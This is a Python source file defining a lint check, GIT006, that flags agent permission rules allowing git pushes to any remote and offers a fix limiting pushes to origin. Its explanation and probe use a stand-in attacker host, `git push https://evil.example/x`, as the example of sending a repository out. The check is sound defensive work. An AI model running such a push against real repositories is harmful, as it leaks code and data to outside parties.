"""GIT006 any-remote."""

from __future__ import annotations

from collections.abc import Iterator

from ...domain.errors import Span
from ..check import Check
from ..finding import Edit, Finding, Fix
from ..ground import Ground, words


def _look(ground: Ground, check: Check) -> Iterator[Finding]:
    for reach in ground.reach("push", ["*:refs/**"], (), ["refs/**", *_named(ground)]):
        steps = (reach.step,)
        for one in ground.probe("push", _elsewhere(str(reach.step.witness.resource))):
            if one.rule is reach.rule:
                steps = (one.step,)
        fixes = tuple(
            Fix("only `origin`", (Edit(Span(reach.rule.span.source, *w.pos), f'"{w.text.partition(":")[2]}"'),))
            for w in words(ground, reach.rule) if w.text.startswith(("*:", "**:"))
        )  # fmt: skip
        yield ground.finding(
            check,
            f"the remote may be any: `{steps[0].witness.resource}` is allowed",
            reach.rule,
            steps=steps,
            fixes=fixes,
        )


def _named(ground: Ground) -> list[str]:
    """Patterns of the remotes that rules name."""
    names = {p.text.partition(":")[0] for r in ground.own_rules(None, "push") for p in r.include if ":" in p.text}
    return [f"{n}:refs/**" for n in sorted(names) if n.isascii() and n.replace("-", "").isalnum()]


def _elsewhere(resource: str) -> str:
    ref = resource.partition(":")[2] or resource
    return f"https://evil.example/x.git:{ref}"


CHECK = Check(
    code="GIT006",
    name="any-remote",
    severity="error",
    evidence="proved",
    finds="A rule lets an agent push to any remote.",
    why="A remote is an address: `git push https://evil.example/x` sends the repository there.",
    mend="Leave the remote out: a pattern without one means `origin`.",
    bad='allow push "*:agent/**"',
    good='allow push "agent/**"',
    near=('allow push "upstream:agent/**"',),
    shows="evil.example",
    look=_look,
)
